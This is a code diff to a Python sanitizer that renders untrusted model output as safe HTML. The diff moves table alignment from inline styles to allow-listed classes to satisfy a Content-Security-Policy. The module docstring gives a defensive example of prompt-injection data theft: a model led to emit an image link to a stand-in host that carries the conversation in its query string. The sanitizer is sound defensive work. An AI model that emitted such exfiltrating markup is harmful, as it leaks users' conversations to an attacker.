@@ -1,12 +1,14 @@
 """Model output is untrusted: Markdown with raw HTML off, then sanitized.
 
-What survives: ordinary text formatting, tables, code blocks highlighted by Pygments (class
-names only), and links to http(s)/mailto that open safely. No script, no style, no event
-handlers, no hx-* attributes, no javascript: links. Panes also carry hx-disable.
+What survives: ordinary text formatting, tables (a column's alignment as a class), code
+blocks highlighted by Pygments (class names only), and links to http(s)/mailto that open
+safely. No script, no style (neither element nor attribute), no event handlers, no hx-*
+attributes, no javascript: links. Panes also carry hx-disable.
 
 Images are shown as links, never loaded: a model talked into writing
 ``![](https://evil.example/?q=<the conversation>)`` must not make the browser send that
-request on its own.
+request on its own (and the Content-Security-Policy, ``img-src 'self' data:``, would
+refuse it too).
 """
 
 from __future__ import annotations
@@ -57,9 +59,22 @@ def _image_as_link(_renderer: Any, tokens: Any, idx: int, _options: Any, _env: A
     return f'<a href="{src}">[image: {alt}]</a>'
 
 
+def _alignment_as_class(state: Any) -> None:
+    """A table column's alignment as a class (``align-right``) instead of markdown-it's
+    ``style="text-align:right"``: the Content-Security-Policy refuses every inline style,
+    so the page would report each aligned cell (playground/csp.py)."""
+    for token in state.tokens:
+        if token.type not in {"th_open", "td_open"} or not token.attrs:
+            continue
+        style = str(token.attrs.pop("style", ""))
+        if style.startswith("text-align:"):
+            token.attrSet("class", "align-" + style.removeprefix("text-align:"))
+
+
 _MD = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight})
 _MD.enable(["table", "strikethrough"])
 _MD.add_render_rule("image", _image_as_link)
+_MD.core.ruler.push("alignment_as_class", _alignment_as_class)
 
 _TAGS = {
     "p",
@@ -95,19 +110,18 @@ _ATTRIBUTES = {
     "code": {"class"},
     "span": {"class"},
     "ol": {"start"},
-    "th": {"style"},
-    "td": {"style"},
+    "th": {"class"},
+    "td": {"class"},
 }
+_ALIGNMENTS = {"align-left", "align-center", "align-right"}
 
 
 def _allowed_class(tag: str, attribute: str, value: str) -> str | None:
+    if attribute == "class" and tag in {"th", "td"}:
+        return value if value in _ALIGNMENTS else None
     if attribute == "class":
         classes = [c for c in value.split() if c.startswith(("tok-", "language-"))]
         return " ".join(classes) or None
-    if attribute == "style":
-        return (
-            value if value in {"text-align:left", "text-align:center", "text-align:right"} else None
-        )
     return value
 
 
